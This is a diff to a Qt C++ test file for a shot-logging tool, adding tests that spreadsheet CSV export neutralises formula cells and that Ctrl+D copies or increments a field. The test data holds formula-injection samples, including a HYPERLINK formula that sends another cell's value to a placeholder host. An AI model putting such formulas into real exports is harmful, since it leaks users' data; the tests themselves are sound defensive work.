@@ -569,6 +569,67 @@ private slots:
         QVERIFY(bytes.contains("\"He said \"\"cut\"\"\nthen laughed\""));
     }
 
+    // Notes such as =HYPERLINK("...?"&C2) ran as formulas in every crew
+    // member's spreadsheet (a link sending another cell away). For
+    // spreadsheets such a cell starts with an apostrophe; CSV for tools keeps
+    // every value exact.
+    void spreadsheetExportRunsNoCellAsAFormula_data()
+    {
+        QTest::addColumn<QString>("column");
+        QTest::addColumn<QVariant>("stored");
+        QTest::addColumn<QString>("forSpreadsheets");
+
+        QTest::newRow("a sum") << "notes" << QVariant("=1+1") << "'=1+1";
+        QTest::newRow("words after an equals sign")
+            << "notes" << QVariant("=good take, use this") << "'=good take, use this";
+        const QString link = QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&C2,\"Click\")");
+        QTest::newRow("a link that sends another cell away") << "notes" << QVariant(link) << "'" + link;
+        QTest::newRow("plus") << "notes" << QVariant("+1 stop over") << "'+1 stop over";
+        QTest::newRow("minus, not a number") << "takes" << QVariant("-1+1") << "'-1+1";
+        QTest::newRow("at") << "notes" << QVariant("@SUM(1+1)") << "'@SUM(1+1)";
+        QTest::newRow("tab") << "takes" << QVariant("\t=1+1") << "'\t=1+1";
+        QTest::newRow("carriage return") << "notes" << QVariant("\r=1+1") << "'\r=1+1";
+        QTest::newRow("a number after a line break is text")
+            << "notes" << QVariant("-3\n=1+1") << "'-3\n=1+1";
+        // A plain number is no formula: still read as a number.
+        QTest::newRow("negative whole number as text") << "takes" << QVariant("-3") << "-3";
+        QTest::newRow("negative decimal as text") << "takes" << QVariant("-2.5") << "-2.5";
+        QTest::newRow("negative number in a numeric column") << "quality" << QVariant(-3) << "-3";
+        QTest::newRow("equals sign inside") << "notes" << QVariant("take 2 = best") << "take 2 = best";
+    }
+
+    void spreadsheetExportRunsNoCellAsAFormula()
+    {
+        QFETCH(QString, column);
+        QFETCH(QVariant, stored);
+        QFETCH(QString, forSpreadsheets);
+        addShot(harbour, "raw/A/1.MTS", {{column, stored}});
+        Browser b = open(harbour);
+        QCOMPARE(b.model()->rowCount(), 1);
+
+        // The cell as Python's csv module reads it from the written file.
+        auto exported = [&](bool spreadsheets) -> QString {
+            ShotExport snapshot = exportOfShownShots(b.model());
+            snapshot.byteOrderMark = spreadsheets;
+            const QString path = root.filePath(spreadsheets ? "spreadsheet.csv" : "tools.csv");
+            const Csv::Result result = snapshot.write(path);
+            if (!result.ok)
+                return "not written: " + result.error;
+            QProcess python;
+            python.start("python3", {"-c",
+                                     "import csv, json, sys\n"
+                                     "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
+                                     "    rows = list(csv.reader(f, strict=True))\n"
+                                     "print(json.dumps(rows[1][rows[0].index(sys.argv[2])]))\n",
+                                     path, column});
+            if (!python.waitForFinished(30000) || python.exitCode() != 0)
+                return "not read: " + QString::fromUtf8(python.readAllStandardError());
+            return QJsonDocument::fromJson("[" + python.readAllStandardOutput() + "]").array().at(0).toString();
+        };
+        QCOMPARE(exported(true), forSpreadsheets);
+        QCOMPARE(exported(false), stored.toString());
+    }
+
     // A full disk in the middle of an export: nothing under the chosen name,
     // a file already there untouched, no temporary file left.
     void aFailedExportLeavesNoHalfFile()
@@ -608,6 +669,48 @@ private slots:
         const Csv::Result missing = exportShownShots(b.model(), target.filePath("no/such/folder/x.csv"));
         QVERIFY(!missing.ok);
         QVERIFY(!missing.error.isEmpty());
+    }
+
+    // Ctrl+D copies the field of the shot above; in Takes a number counts on.
+    void dittoTakesTheShotAbove_data()
+    {
+        QTest::addColumn<QString>("column");
+        QTest::addColumn<QVariant>("above");
+        QTest::addColumn<QString>("expected");
+
+        QTest::newRow("takes: a number counts on") << "takes" << QVariant("3") << "4";
+        QTest::newRow("takes: nine gives ten") << "takes" << QVariant("9") << "10";
+        QTest::newRow("takes: its width kept") << "takes" << QVariant("007") << "008";
+        QTest::newRow("takes: spaces around a number") << "takes" << QVariant(" 12 ") << "13";
+        QTest::newRow("takes: a range is copied") << "takes" << QVariant("3-5") << "3-5";
+        QTest::newRow("takes: text is copied") << "takes" << QVariant("3 NG") << "3 NG";
+        QTest::newRow("takes: a negative number is copied") << "takes" << QVariant("-3") << "-3";
+        QTest::newRow("takes: nothing above stays empty") << "takes" << QVariant() << "";
+        QTest::newRow("scene: a number is copied") << "scene" << QVariant("3") << "3";
+        QTest::newRow("related: a number is copied") << "related" << QVariant("3") << "3";
+    }
+
+    void dittoTakesTheShotAbove()
+    {
+        QFETCH(QString, column);
+        QFETCH(QVariant, above);
+        QFETCH(QString, expected);
+        addShot(harbour, "raw/A/1.MTS", {{column, above}});
+        const int below = addShot(harbour, "raw/A/2.MTS");
+        Browser b = open(harbour);
+        b.grid->showColumn(b.model()->fieldIndex(column)); // the layout for logging may hide it
+        b.click(1, qPrintable(column));
+        QVERIFY(settle());
+        QCOMPARE(b.info->mapper->currentIndex(), 1);
+        auto *edit = qobject_cast<QLineEdit *>(b.info->widgetOfColumn(column));
+        QVERIFY(edit);
+        edit->setFocus();
+        QTest::keyClick(edit, Qt::Key_D, Qt::ControlModifier);
+        QCOMPARE(edit->text(), expected);
+        QVERIFY(b.info->saveChanges());
+        QCOMPARE(stored(below, column).toString(), expected);
+        // The shot above keeps its value.
+        QCOMPARE(b.model()->data(b.cell(0, qPrintable(column))).toString(), above.toString());
     }
 
     void tabWalksTheFieldsInOrder_data()
